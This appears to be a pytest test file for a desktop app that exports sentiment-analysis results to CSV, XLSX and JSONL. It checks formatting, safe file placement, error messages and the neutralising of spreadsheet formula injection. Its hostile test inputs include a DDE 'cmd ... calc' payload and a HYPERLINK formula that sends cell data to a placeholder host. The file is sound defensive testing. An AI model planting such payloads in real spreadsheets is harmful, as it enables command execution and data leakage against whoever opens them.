"""Each form read back: nothing runs, nothing is lost, nothing partial is left."""

import csv
import errno
import io
import json
import math
import os
import random
import socket
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from desktop_app.results.destination import check_destination, place_error
from desktop_app.results.result_error import ResultError, ResultsCancelledError
from desktop_app.results.result_row import ResultRow
from desktop_app.results.write_options import WriteOptions, form_of
from desktop_app.results.write_results import write_results
from desktop_app.results.xlsx_writer import CUT_MARK, MAX_CELL, write_xlsx

FORMS = ("csv", "xlsx", "jsonl")
HEADS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\x00",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\ufeff=",
    "<r>",
)
TAILS = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"click")',
    "SUM(A1:A9);=1",
    "1\n=2",
    '1","=2',
    "</t></is></c><c r='Z9'><f>1+1</f></c></r>",
    "电影=好\x0b\x1f\ufffe",
    "\ud83d half",
    "_x003D_1+1",
)


def hostile_cells(count: int) -> list[str]:
    rng = random.Random(5)
    cells = [head + tail for head in HEADS for tail in TAILS]
    while len(cells) < count:
        cells.append(rng.choice(HEADS) + rng.choice(TAILS) + rng.choice(TAILS) + str(len(cells)))
    return cells[:count]


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def left_in(folder: Path) -> list[str]:
    return sorted(entry.name for entry in folder.iterdir())


# What comes back


def test_csv_has_a_mark_the_source_s_cells_and_numbers_with_dots(tmp_path, make_table, make_row):
    path = tmp_path / "out.csv"
    rows = [
        make_row("007", "好电影, really", valence=-1.25),
        make_row("-5", " x ", label=None, status="blank", language=""),
        make_row("9", "y", corrected="neutral", uncertain=True, scores=(0.3, math.nan, 0.4)),
    ]
    assert write_results(path, make_table(), rows) == 3
    assert path.read_bytes().startswith(b"\xef\xbb\xbfid,text,label,confidence,")
    head, *lines = read_csv(path)
    assert head[-3:] == ["probability: negative", "probability: neutral", "probability: positive"]
    assert lines[0][:8] == ["007", "好电影, really", "positive", "0.700000", "-1.250000", "en",
                            "false", "ok"]  # fmt: skip
    assert lines[1][:8] == ["-5", " x ", "", "", "", "", "", "blank"]
    assert lines[2][6:] == ["true", "ok", "neutral", "sentiment-en@ab12ab12ab12",
                            "0.300000", "", "0.400000"]  # fmt: skip


def test_csv_without_the_mark_and_raw(tmp_path, make_table, make_row):
    path = tmp_path / "out.csv"
    options = WriteOptions(byte_order_mark=False, raw=True)
    write_results(path, make_table(), [make_row("1", "=1+1")], options=options)
    assert path.read_bytes().startswith(b"id,text,")
    assert read_csv(path)[1][1] == "=1+1"


def test_json_lines_keep_letters_and_kinds(tmp_path, make_table, make_row):
    path = tmp_path / "out.jsonl"
    rows = [
        make_row("1", "好\u2028电影\x85=1\ud83d"),
        make_row("2", "x", label=None, status="unknown language", language=""),
    ]
    write_results(path, make_table("id", "label"), rows)
    content = path.read_text(encoding="utf-8")
    assert "好" in content
    assert len(content.splitlines()) == 2  # also for a reader that cuts at U+2028
    first, second = map(json.loads, content.splitlines())
    assert first["label"] == "好\u2028电影\x85=1\ufffd"
    assert first["label_result"] == "positive"
    assert first["probability: positive"] == 0.7
    assert first["uncertain"] is False
    assert (second["label_result"], second["confidence"]) == (None, None)
    assert second["status"] == "unknown language"


def test_a_workbook_has_texts_as_texts_and_scores_as_numbers(tmp_path, make_table, make_row):
    path = tmp_path / "out.xlsx"
    rows = [
        make_row("007", "1e5", valence=-1.25),
        make_row("2024-01-31", "", label=None, status="blank", language=""),
    ]
    write_results(path, make_table(), rows)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["results", "about"]
    head, first, second = book["results"].iter_rows(values_only=True)
    assert head[:3] == ("id", "text", "label")
    assert first[:8] == ("007", "1e5", "positive", 0.7, -1.25, "en", False, "ok")
    assert first[-3:] == (0.1, 0.2, 0.7)
    assert second[:8] == ("2024-01-31", None, None, None, None, None, None, "blank")
    about = dict(book["about"].iter_rows(values_only=True))
    assert about["model"] == "sentiment-en"
    assert about["sha256"] == "ab12" * 16
    assert (about["recipe"], about["source"]) == ("dynamic_wi8_afp32", "reviews.csv")


# What must not run


def test_a_thousand_hostile_cells_make_no_formula_in_a_workbook(tmp_path, make_table, make_row):
    path = tmp_path / "out.xlsx"
    cells = hostile_cells(1000)
    table = make_table("=1+1", "@text", settings=(("=cmd", "=1+1"),))
    write_results(path, table, [make_row(cell, cell, status=cell) for cell in cells])
    book = openpyxl.load_workbook(path)
    kinds = [cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row]
    assert "f" not in kinds
    assert sum(kind in "s" for kind in kinds) > 3000
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            assert b"<f>" not in content
            assert b"<hyperlink" not in content
            assert b"relationships/hyperlink" not in content
    assert book["results"].max_row == 1001
    assert book["results"]["A2"].value == cells[0]


def test_a_thousand_hostile_cells_make_no_formula_in_a_csv(tmp_path, make_table, make_row):
    path = tmp_path / "out.csv"
    cells = hostile_cells(1000)
    rows = [make_row(cell, cell, status=cell, valence=-0.5) for cell in cells]
    write_results(path, make_table("=id", "＝text"), rows)
    read = read_csv(path)
    assert len(read) == 1001
    for line in read:
        for place, cell in enumerate(line):
            assert cell.lstrip("\ufeff \u3000")[:1] not in (*"=+@\t\r\n\x00", *"＝＋－＠")
            assert not cell.startswith("-") or place == 4
    assert {line[4] for line in read[1:]} == {"-0.500000"}  # a number of ours stays one
    expected = [cell.replace("\ud83d", "\ufffd") for cell in cells]
    found = [line[0].replace("'", "") for line in read[1:]]
    assert found == [cell.replace("'", "") for cell in expected]  # nothing but quotes is added
    content = path.read_bytes().decode("utf-8-sig")
    for delimiter in ";\t":  # of a program that cuts elsewhere
        for line in csv.reader(io.StringIO(content, newline=""), delimiter=delimiter):
            for cell in line:
                assert cell.lstrip("\ufeff \u3000")[:1] not in (*"=+-@", *"＝＋－＠")


# What Excel cannot hold


def test_more_rows_than_a_sheet_has_go_to_further_sheets(tmp_path, make_table, make_row):
    path = tmp_path / "out.xlsx"
    with path.open("wb") as stream:
        rows = (make_row(str(number), "x") for number in range(25))
        write_xlsx(stream, make_table(), rows, folder=tmp_path, max_rows=11)
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["results", "about", "results 2", "results 3"]
    ids = []
    for name in ("results", "results 2", "results 3"):
        head, *lines = book[name].iter_rows(values_only=True)
        assert head[0] == "id"
        assert len(lines) <= 10
        ids += [line[0] for line in lines]
    assert ids == [str(number) for number in range(25)]
    assert left_in(tmp_path) == ["out.xlsx"]


def test_a_cell_that_is_too_long_is_cut_and_marked_by_the_units_of_excel(
    tmp_path, make_table, make_row
):
    path = tmp_path / "out.xlsx"
    texts = ["x" * 32_767, "x" * 32_768, "\U0001f600" * 16_383, "\U0001f600" * 20_000]
    write_results(path, make_table(), [make_row("1", text) for text in texts])
    cells = [row[1] for row in openpyxl.load_workbook(path)["results"].iter_rows(values_only=True)]
    assert cells[1] == texts[0]
    assert cells[2] == "x" * (MAX_CELL - len(CUT_MARK)) + CUT_MARK
    assert cells[3] == texts[2]
    assert cells[4].endswith("\U0001f600" + CUT_MARK)
    assert all(len(cell.encode("utf-16-le")) // 2 <= MAX_CELL for cell in cells)


def test_illegal_characters_are_escaped_so_that_the_xml_is_whole(tmp_path, make_table, make_row):
    from xml.etree import ElementTree

    path = tmp_path / "out.xlsx"
    text = "a" + "".join(map(chr, range(32))) + "\ufffe\uffff\ud800 b"
    write_results(path, make_table(), [make_row(text, text)])
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    ElementTree.fromstring(sheet)
    assert b"_x0001_" in sheet
    assert b"_xFFFE_" in sheet


# The place


@pytest.mark.parametrize("form", FORMS)
def test_an_error_of_the_rows_leaves_the_old_file_and_nothing_else(
    form, tmp_path, make_table, make_row
):
    path = tmp_path / f"out.{form}"
    path.write_text("the one before")

    def rows():
        for number in range(600):
            yield make_row(str(number), "x")
        raise OSError(errno.EIO, "the source vanished")

    with pytest.raises(OSError, match="the source vanished") as caught:
        write_results(path, make_table(), rows())
    assert not isinstance(caught.value, ResultError)
    assert path.read_text() == "the one before"
    assert left_in(tmp_path) == [path.name]


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("error", [KeyboardInterrupt, SystemExit])
def test_ctrl_c_leaves_nothing(form, error, tmp_path, make_table, make_row):
    def rows():
        yield make_row("1", "x")
        raise error

    with pytest.raises(error):
        write_results(tmp_path / f"out.{form}", make_table(), rows())
    assert left_in(tmp_path) == []


@pytest.mark.parametrize("form", FORMS)
def test_progress_is_told_and_a_wish_to_stop_is_heard(form, tmp_path, make_table, make_row):
    rows = [make_row(str(number), "x") for number in range(1000)]
    path, told = tmp_path / f"out.{form}", []
    write_results(path, make_table(), rows, progress=told.append)
    assert told == [256, 512, 768, 1000]
    before = path.read_bytes()
    taken = []

    def counted():
        for row in rows:
            taken.append(row)
            yield row

    with pytest.raises(ResultsCancelledError):
        write_results(path, make_table(), counted(), cancelled=lambda: len(taken) > 300)
    assert len(taken) == 512
    assert path.read_bytes() == before
    assert left_in(tmp_path) == [path.name]


def test_the_source_is_never_written_over(tmp_path, make_table, make_row):
    source = tmp_path / "reviews.csv"
    source.write_text("text\nx\n")
    link = tmp_path / "link.csv"
    link.symlink_to(source)
    for path in (source, link, tmp_path / "." / "reviews.csv"):
        with pytest.raises(ResultError, match="would destroy"):
            write_results(path, make_table(), [make_row("1", "x")], source=source)
        with pytest.raises(ResultError, match="would destroy"):
            check_destination(path, source)
    assert source.read_text() == "text\nx\n"


def test_nothing_is_written_into_a_folder_that_is_analysed(tmp_path, make_table, make_row):
    folder, elsewhere = tmp_path / "reviews", tmp_path / "elsewhere.csv"
    (folder / "deep").mkdir(parents=True)
    for path in (folder / "a.csv", folder / "deep" / "b.csv", elsewhere):
        path.write_text("text\nprecious\n")
    (folder / "c.csv").symlink_to(elsewhere)  # is read as a document of the folder
    (tmp_path / "way").symlink_to(folder)
    places = (
        folder / "a.csv",
        folder / "deep" / "b.csv",
        folder / "new.csv",
        tmp_path / "way" / "a.csv",
        folder / "deep" / ".." / "new.html",
        elsewhere,
    )
    for path in places:
        for source in (folder, tmp_path / "way"):
            with pytest.raises(ResultError, match="in the folder that is analysed"):
                check_destination(path, source)
            with pytest.raises(ResultError, match="in the folder that is analysed"):
                write_results(path, make_table(), [make_row("1", "x")], form="csv", source=source)
    assert elsewhere.read_text() == (folder / "a.csv").read_text() == "text\nprecious\n"
    check_destination(tmp_path / "reviews.csv", folder)  # beside it is another place
    assert left_in(folder) == ["a.csv", "c.csv", "deep"]


def test_a_new_place_is_not_looked_for_among_the_documents(tmp_path, monkeypatch):
    folder = tmp_path / "reviews"
    folder.mkdir()
    walks = []
    monkeypatch.setattr(os, "walk", lambda *place: walks.append(place) or [])
    check_destination(tmp_path / "new.csv", folder)
    assert walks == []  # thousands of files, while a window waits
    (tmp_path / "there.csv").touch()
    check_destination(tmp_path / "there.csv", folder)
    assert walks == [(folder,)]


def test_pipes_and_devices_are_refused_without_waiting(tmp_path, make_table, make_row):
    os.mkfifo(tmp_path / "pipe.csv")
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(tmp_path / "socket.csv"))
        for path in (tmp_path / "pipe.csv", tmp_path / "socket.csv", Path("/dev/zero")):
            with pytest.raises(ResultError, match="a pipe or a device, not a file"):
                check_destination(path)
            with pytest.raises(ResultError, match="a pipe or a device, not a file"):
                write_results(path, make_table(), [make_row("1", "x")], form="csv")
    check_destination(Path(os.devnull))
    assert write_results(Path(os.devnull), make_table(), [make_row("1", "x")], form="csv") == 1


def test_standard_output_is_no_place_for_results():
    code = """
import sys
from pathlib import Path
from desktop_app.results.destination import check_destination
try:
    check_destination(Path("/dev/stdout"))
except ValueError as error:
    print(error)
"""
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True,
        cwd=Path(__file__).parents[3],
    )  # fmt: skip
    assert "not a file" in done.stdout


def test_places_that_cannot_be_written_are_told_beforehand(tmp_path):
    (tmp_path / "folder.csv").mkdir()
    with pytest.raises(ResultError, match="it is a folder"):
        check_destination(tmp_path / "folder.csv")
    with pytest.raises(ResultError, match="the folder does not exist"):
        check_destination(tmp_path / "nowhere" / "out.csv")
    check_destination(tmp_path / "out.csv")
    assert left_in(tmp_path) == ["folder.csv"]


def test_a_folder_that_nobody_may_write_in_is_told(make_table, make_row):
    path = Path("/sys/out.csv")
    with pytest.raises(ResultError, match=r"write-protected|read-only"):
        write_results(path, make_table(), [make_row("1", "x")])
    error = PermissionError("Cannot write out.csv: it is write-protected.")
    assert "open in another program" in str(place_error(Path("out.csv"), error))


@pytest.mark.parametrize("form", FORMS)
def test_a_full_disk_is_told(form, make_table, make_row):
    rows = [make_row(str(number), "x" * 1000) for number in range(300)]
    with pytest.raises(ResultError, match="the disk is full"):
        write_results(Path("/dev/full"), make_table(), rows, form=form)


@pytest.mark.parametrize(
    ("number", "words"),
    [
        (errno.EROFS, "read-only"),
        (errno.EACCES, "open in another program"),
        (errno.EDQUOT, "share of the disk"),
        (errno.EIO, "still connected"),
        (errno.EPIPE, "Broken pipe"),
    ],
)
def test_errors_of_the_system_say_what_to_do(number, words):
    error = place_error(Path("out.csv"), OSError(number, os.strerror(number)))
    assert words in str(error)
    assert str(error).startswith("Cannot write out.csv: ")
    wrapped = OSError("Cannot write out.csv")
    wrapped.__cause__ = OSError(number, os.strerror(number))
    assert words in str(place_error(Path("out.csv"), wrapped)) or number == errno.EPIPE


def test_the_form_is_named_or_told_by_the_name():
    assert form_of(Path("a.CSV")) == "csv"
    assert form_of(Path("a.ndjson")) == "jsonl"
    assert form_of(Path("a.txt"), "xlsx") == "xlsx"
    with pytest.raises(ResultError, match=r"end it with \.csv, \.xlsx"):
        form_of(Path("a.ods"))
    with pytest.raises(ResultError, match="no output format 'ods'"):
        form_of(Path("a.csv"), "ods")


def test_rows_are_not_kept(tmp_path, make_table, make_row):
    """A generator whose rows die behind it: were they held, their count would grow."""
    import gc

    alive = []

    def rows():
        for number in range(1000):
            if number % 1000 in (0, 999):
                alive.append(sum(isinstance(each, ResultRow) for each in gc.get_objects()))
            yield make_row(str(number), "x")

    for form in FORMS:
        write_results(tmp_path / f"out.{form}", make_table(), rows())
    assert max(alive) - min(alive) < 50


DECIMAL_COMMA = """
import locale, sys
from pathlib import Path
for name in sys.argv[2:]:
    try:
        locale.setlocale(locale.LC_ALL, name)
        break
    except locale.Error:
        continue
else:
    locale.localeconv = lambda: {"decimal_point": ",", "thousands_sep": ".", "grouping": [3, 0]}
assert locale.localeconv()["decimal_point"] == ","
from desktop_app.results.result_row import ResultRow, ResultTable
from desktop_app.results.write_results import write_results
table = ResultTable(columns=("text",), text_column="text", labels=("a", "b"), provenance=())
row = ResultRow(("x",), "ok", "b", (0.25, 0.75), -1.5, "en", False)
for form in ("csv", "jsonl", "xlsx"):
    write_results(Path(sys.argv[1]) / f"out.{form}", table, [row])
"""


def test_decimals_are_dots_where_the_locale_writes_commas(tmp_path):
    done = subprocess.run(
        [sys.executable, "-c", DECIMAL_COMMA, str(tmp_path), "de_DE.UTF-8", "fr_FR.UTF-8"],
        capture_output=True, text=True, check=False, cwd=Path(__file__).parents[3],
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert ",b,0.750000,-1.500000,en," in (tmp_path / "out.csv").read_text("utf-8-sig")
    assert json.loads((tmp_path / "out.jsonl").read_text())["valence"] == -1.5
    sheet = openpyxl.load_workbook(tmp_path / "out.xlsx")["results"]
    assert [cell.value for cell in sheet[2]][2:4] == [0.75, -1.5]
